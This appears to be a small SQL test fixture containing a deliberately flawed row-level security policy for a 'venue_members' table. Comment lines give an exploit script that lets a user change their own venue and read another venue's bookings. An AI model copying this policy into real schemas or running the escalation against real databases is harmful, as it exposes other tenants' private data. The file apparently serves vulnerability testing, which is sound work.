-- People may edit their own membership row, its venue too, and so move into another venue.
-- about: venue_members, members_update_self
-- as: hf_puzzlevault_app
-- exploit: SET request.jwt.claims = '{"sub": "aaaaaaaa-0000-0000-0000-000000000001"}';
-- exploit: UPDATE public.venue_members
-- exploit:   SET venue_id = 'b0000000-0000-0000-0000-000000000002';
-- exploit: SELECT team_name FROM public.bookings;
-- shows: Road-secret team

-- Everybody may change the own display name.
GRANT UPDATE ON public.venue_members TO hf_puzzlevault_app;
CREATE POLICY members_update_self ON public.venue_members FOR UPDATE TO hf_puzzlevault_app
  USING (user_id = public.uid())
  WITH CHECK (user_id = public.uid());
